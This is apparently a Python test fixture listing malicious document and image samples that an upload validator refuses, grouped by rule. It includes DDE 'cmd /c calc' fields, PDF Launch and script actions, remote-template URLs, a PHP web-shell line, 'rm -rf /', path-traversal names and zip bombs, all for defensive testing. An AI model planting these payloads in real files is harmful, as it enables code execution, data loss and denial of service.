"""Samples of files that are refused, by the rule that each breaks."""

from __future__ import annotations

import gzip
import struct

from tests.activities.evidence_files import (
    A_PDF,
    AN_EXE,
    MANIFEST,
    OOXML,
    announcing,
    bmp,
    bomb,
    box,
    chunk,
    compound,
    docx,
    encrypted,
    gif,
    heic,
    image,
    jpeg,
    lying,
    odf,
    ods,
    odt,
    ofd,
    ooxml,
    opened,
    packed_objects,
    padded_zip,
    pdf,
    png,
    related,
    tiff,
    webp,
    with_gbk_name,
    within,
    zeros,
    zipped,
)

REFUSED = {
    "content_file_inside": {
        "a docx with a file to be opened by a double click": docx(
            {"word/embeddings/oleObject1.bin": compound("\x01Ole10Native")}
        ),
        "a doc with one": compound("WordDocument", "\x01Ole10Native"),
    },
    "content_asks_programs": {
        "an odt with a field of DDE": odt(
            '<text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" '
            'office:dde-item="x" office:automatic-update="true"/>'
        ),
        "an odt with a section of DDE": odt(
            '<text:section text:name="x"><office:dde-source office:dde-application="soffice"/></text:section>'
        ),
        "an ods with a link of DDE": ods("<table:dde-links><table:dde-link/></table:dde-links>"),
        "an ods with a formula of DDE": ods(
            '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)"/>'
        ),
        "an ods with a name for one": ods('<table:named-expression table:name="x" table:expression="dde (1;2;3)"/>'),
        "an odt with one in a table of it": odf("text", {"Object 1/content.xml": opened("<table:dde-link/>")}),
        "an odp that starts a program": odf(
            "presentation",
            {
                "content.xml": opened(
                    '<presentation:event-listener presentation:action="execute" xlink:href="calc.exe"/>'
                )
            },
        ),
    },
    "content_loads_from_elsewhere": {
        "an odt with a section of another machine": odt(
            '<text:section><text:section-source xlink:href="https://example.cn/a.odt"/></text:section>'
        ),
        "an odt with a frame": odt('<draw:floating-frame xlink:href="http://example.cn/"/>'),
        "an odt with an object": odt('<draw:object xlink:href="//host/share/a.ods"/>'),
        "an odt whose namespaces are others": odf(
            "text", {"content.xml": b'<o:c xmlns:o="x" xmlns:y="y"><o:plugin y:href="http://example.cn/a"/></o:c>'}
        ),
        "an odt whose template lies elsewhere": odf(
            "text", {"meta.xml": opened('<meta:template xlink:href="file://///host/a.ott"/>')}
        ),
        "an odt that another takes the place of": odf(
            "text", {"meta.xml": opened('<meta:auto-reload xlink:href="http://example.cn/a" meta:delay="PT1S"/>')}
        ),
        "a docx with a template of another machine": docx(
            {"word/_rels/settings.xml.rels": related("attachedTemplate", "https://example.cn/a.dotm")}
        ),
        "a docx with a template of a neighbour": docx(
            {"word/_rels/settings.xml.rels": related("attachedTemplate", "file:///\\\\host\\share\\a.dotm")}
        ),
        "a docx with a template behind escapes": docx(
            {"word/_rels/settings.xml.rels": related("attachedTemplate", "%5C%5Chost%5Cshare%5Ca.dotm", "external")}
        ),
        "a pptx with an object of another machine": ooxml(
            f"{OOXML}.presentationml.presentation",
            {"ppt/slides/_rels/1.xml.rels": related("oleObject", "mhtml:https://example.cn/x!https://example.cn/x")},
        ),
        "a docx whose relationships are UTF-16": docx(
            {
                "word/_rels/settings.xml.rels": related("attachedTemplate", "https://example.cn/a.dotm")
                .decode()
                .replace('"1.0"', '"1.0" encoding="UTF-16"')
                .encode("utf-16")
            }
        ),
    },
    "content_pdf_hidden": {
        "a PDF with objects in a stream of letters": packed_objects(
            b"x", b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode"
        ),
        "a PDF with objects packed twice": packed_objects(
            b"x", b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]"
        ),
        "a PDF with objects of which half is there": packed_objects(b"x" * 1000).replace(b"endstream", b"", 1)[:120]
        + b"\n%%EOF\n",
    },
    "content_pdf_launches": {
        "a PDF that starts a program": pdf(b"5 0 obj<</S/Launch/F(calc.exe)>>endobj"),
        "a PDF that spells it otherwise": pdf(b"5 0 obj<</S/#4caunc#68/F(calc.exe)>>endobj"),
        "a PDF that has it packed": packed_objects(b"5 0 <</S/Launch/F(calc.exe)>>"),
        "a PDF that has it packed and does not say so": packed_objects(
            b"5 0 <</S/Launch/F(calc.exe)>>", b"/N 1/First 4/Filter[/FlateDecode]"
        ),
        "a PDF that has it where two pieces meet": packed_objects(b" " * (64 * 1024 - 4) + b"<</S/Launch/F(x)>>"),
    },
    "content_pdf_scripts": {
        "a PDF with a script": pdf(b"5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
        "a docx with such a PDF": docx({"word/a.pdf": pdf(b"5 0 obj<</S/JavaScript/JS(x)>>endobj")}),
        "a form that is a program": pdf(b"5 0 obj<</XFA 6 0 R>>endobj"),
    },
    "content_unsafe_name": {
        "a docx with a part above its folder": docx({"word/../../../a.xml": b"x"}),
        "a docx with a part above its folder on Windows": docx({"word\\..\\..\\a.xml": b"x"}),
        "a docx with a part at the root": docx({"/etc/cron.d/a": b"x"}),
        "a docx with a part on a disk": docx({"C:/a.xml": b"x"}),
    },
    "content_archive_behind": {
        "a docx behind a program": AN_EXE + ooxml(f"{OOXML}.wordprocessingml.document"),
        "a zip behind a picture": image("PNG") + zipped({"setup.exe": AN_EXE}),
        "a zip behind a PDF": A_PDF + zipped({"a.txt": b"x"}),
        "an archive behind a PDF, and padding behind it": A_PDF + padded_zip(b"x"),
    },
    "content_archive_broken": {
        "an odt whose text is no XML": odf("text", {"content.xml": b"<x>"}),
        "an odt that defines entities": odf("text", {"styles.xml": b'<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'}),
        "a docx with a part without name": ooxml(f"{OOXML}.wordprocessingml.document", {"QQ": b""}).replace(
            b"QQ", b"\0Q"
        ),
        "a docx with something behind it": ooxml(f"{OOXML}.wordprocessingml.document") + AN_EXE,
        "a part that is not as long as its directory says": lying(
            ooxml(f"{OOXML}.wordprocessingml.document", {"a.xml": b"abc"}), 2
        ),
        "a docx whose relationships define entities": docx(
            {"word/_rels/document.xml.rels": b'<!DOCTYPE a [<!ENTITY b "x">]><Relationships>&b;</Relationships>'}
        ),
        "a part that begins as an archive and is none": ooxml(
            f"{OOXML}.wordprocessingml.document", {"a.zip": b"PK\x03\x04 and no more"}
        ),
    },
    "content_archives_too_deep": {
        "four archives in one another": within(4),
    },
    "content_compound_broken": {
        "a compound file that announces more tables than it has room for": announcing(30_000),
        "half a compound file": compound("WordDocument")[:600],
    },
    "content_encrypted": {
        "an encrypted docx of other programs": encrypted(ooxml(f"{OOXML}.wordprocessingml.document")),
        "an encrypted odt": odf(
            "text", {"content.xml": b"\x01\x02\x03", MANIFEST: b'<m:f xmlns:m="x"><m:encryption-data/></m:f>'}
        ),
        "an encrypted docx": compound("EncryptionInfo", "EncryptedPackage"),
    },
    "content_macros": {
        "a docx with macros": ooxml(f"{OOXML}.wordprocessingml.document", {"word/vbaProject.bin": b"x"}),
        "an odt with macros": odf("text", {"Basic/Standard/Module1.xml": b"x"}),
        "an odt that runs a script of this machine": odt(
            '<office:event-listeners><script:event-listener script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:../../x.py$run?language=Python&amp;location=share"/></office:event-listeners>'
        ),
        "an odt with a link that runs one": odt(
            '<text:a xlink:href="%76nd.sun.star.script:x?location=user">x</text:a>'
        ),
        "an odt with a field that runs one": odt('<text:execute-macro text:name="x">x</text:execute-macro>'),
        "an odt with a script": odt('<text:script script:language="x">x</text:script>'),
        "a doc with macros": compound("WordDocument", "_VBA_PROJECT"),
    },
    "content_markup_or_script": {
        "a web page": b"<!DOCTYPE html><html><script>alert(1)</script>",
        "a web page with a mark": "\ufeff \n<HTML><body>".encode(),
        "a part of a web page": b"  <img src=x onerror=alert(1)>",
        "a web page in UTF-16": "<html>".encode("utf-16"),
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "SVG behind a comment": b"<!-- picture --><svg/>",
        "XML": b'<?xml version="1.0"?><svg/>',
        "JavaScript": b"/* a */ // b\nalert(1)",
        "strict JavaScript": b"'use strict';\nlet a = 1",
        "a JavaScript function": b"(function () { steal() })()",
        "a JavaScript arrow": b"(() => { steal() })()",
        "a JavaScript module": b"import { a } from './a.js'",
        "a JavaScript constant": b"const fs = require('fs')",
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a batch file": b"@echo off\r\ndel *.*\r\n",
        "PHP": b"<?php system($_GET[0]);",
        "rich text": b"{\\rtf1 x}",
        "PostScript": b"%!PS-Adobe-3.0\n",
        "JavaScript that takes a thing apart": b"const { a, b } = await load();\n",
        "JavaScript that names two things": b"let a = 1, b = 2;\n",
        "a JavaScript that exports": b"export default function main() { return 1 }\n",
        "a JavaScript class": b"class A extends B {\n  run() {}\n}\n",
        "JavaScript that leads elsewhere": b"window.location.href = 'https://example.cn/'\n",
        "JavaScript that writes a page": b"document.write('<b>')\n",
        "JavaScript that loads another": b"import './a.js'\n",
        "an address that runs": b"javascript:alert(1)",
    },
    "content_no_document": {
        "a zip": zipped({"notes.txt": b"x"}),
        "an empty zip": zipped({}),
        "a zip that says it is a document": zipped(
            {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"", "a.xml": b""}
        ),
        "a docm": ooxml("application/vnd.ms-word.document.macroEnabled"),
        "a compound file that is no document": compound("MsiTable"),
        "two documents in one": compound("WordDocument", "Workbook"),
        "an archive with a file named as an OFD has it": zipped({"OFD.xml": b"<x/>"}),
    },
    "content_pdf_without_end": {
        "a program behind a PDF": A_PDF + AN_EXE,
        "a PDF without end": A_PDF[:-7],
        "a program behind a PDF and NULs": A_PDF + b"\0" * 5000 + AN_EXE,
    },
    "content_picture_broken": {
        "a HEIC that is not whole": heic()[:-10],
        "a HEIC with a box that is too long": heic(more=struct.pack(">I4s", 10_000, b"free")),
    },
    "content_program_inside": {
        "a zip with a program": zipped({"setup.exe": AN_EXE}),
        "a docx with a program": ooxml(f"{OOXML}.wordprocessingml.document", {"word/setup.exe": b"x"}),
        "a docx with a program of another name": ooxml(
            f"{OOXML}.wordprocessingml.document", {"word/media/a.png": AN_EXE}
        ),
        "an OFD with a program": ofd({"Doc_0/Attachs/a.EXE": b"x"}),
        "a docx with an archive with a program": ooxml(
            f"{OOXML}.wordprocessingml.document", {"a.zip": zipped({"setup.exe": AN_EXE})}
        ),
        "a docx with a program whose name is in GBK": with_gbk_name(
            ooxml(f"{OOXML}.wordprocessingml.document", {"PART-NAME.xml": b"x"}), "安装.exe"
        ),
    },
    "content_too_many_pictures": {
        "a GIF of too many frames": gif((10, 10), [(1, 1)] * 1001),
        "a GIF of many large frames": gif((12_000, 12_000), [(1, 1)] * 14),
        "a TIFF of too many pages": tiff([(1, 1)] * 1001),
        "a TIFF of many large pages": tiff([(12_000, 12_000)] * 14),
        "a WebP of too many frames": webp(2, 2, 1001),
        "a PNG of too many frames": png(10, 10).replace(
            b"\0\0\0\x08IDAT", chunk(b"acTL", struct.pack(">II", 1001, 0)) + b"\0\0\0\x08IDAT"
        ),
    },
    "content_too_many_pixels": {
        "a PNG of 2.5 thousand million pixels": png(50_000, 50_000),
        "a PNG of a few pixels too many": png(12_248, 12_248),
        "a JPEG of four thousand million pixels": jpeg(65_000, 65_000),
        "a BMP of 2.5 thousand million pixels": bmp(50_000, 50_000),
        "a GIF of 3.6 thousand million pixels": gif((60_000, 60_000), [(1, 1)]),
        "a GIF whose frame is larger than its screen": gif((1, 1), [(1, 1), (60_000, 60_000)]),
        "a TIFF of 2.5 thousand million pixels": tiff([(50_000, 50_000)]),
        "a TIFF whose second page has them": tiff([(10, 10), (50_000, 50_000)]),
        "a WebP of 268 million pixels": webp(16_384, 16_384, 1),
        "a HEIC of 2.5 thousand million pixels": heic(50_000, 50_000),
        "a docx with such a picture": ooxml(
            f"{OOXML}.wordprocessingml.document", {"word/media/1.png": png(50_000, 50_000)}
        ),
        "an OFD with such a picture": ofd({"Doc_0/Res/1.jpg": jpeg(65_000, 65_000)}),
    },
    "content_unknown": {
        "a program": AN_EXE,
        "a program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "a PDF behind something": b"GIF, or so\n" + A_PDF + b"\0\1",
        "half a picture": image("PNG")[:20],
        "bytes of no kind": bytes(range(256)),
        "text with a NUL far inside": b"a" * 200_000 + b"\0",
        "neither UTF-8 nor GB18030": b"a\xff\xff",
        "a picture of another kind in the same boxes": heic(brands=b"avif\0\0\0\0mif1avif"),
        "a film in the boxes of a picture": heic(more=box(b"moov", b"")),
        "a HEIC that does not say how large it is": heic().replace(b"ispe", b"free"),
    },
    "content_unpacks_too_far": {
        "20 MB from 20 kB": bomb(ooxml(f"{OOXML}.wordprocessingml.document"), 20),
        "an xlsx of 20 MB from 20 kB": bomb(ooxml(f"{OOXML}.spreadsheetml.sheet"), 20),
        "an OFD of 20 MB": bomb(ofd(), 20),
        "a bomb that says it is small": lying(bomb(ooxml(f"{OOXML}.wordprocessingml.document"), 20), 10),
        "a bomb in a document in a document": ooxml(
            f"{OOXML}.wordprocessingml.document",
            {"word/embeddings/1.xlsx": bomb(ooxml(f"{OOXML}.spreadsheetml.sheet"), 20)},
        ),
        "many bombs of which each is small": ooxml(
            f"{OOXML}.wordprocessingml.document", {f"{number}.zip": zeros(9) for number in range(8)}
        ),
        "a packed drawing of 20 MB": ooxml(
            f"{OOXML}.wordprocessingml.document", {"a.emz": gzip.compress(bytes(20 * 1024 * 1024))}
        ),
    },
}
"""Each by the rule that it breaks."""
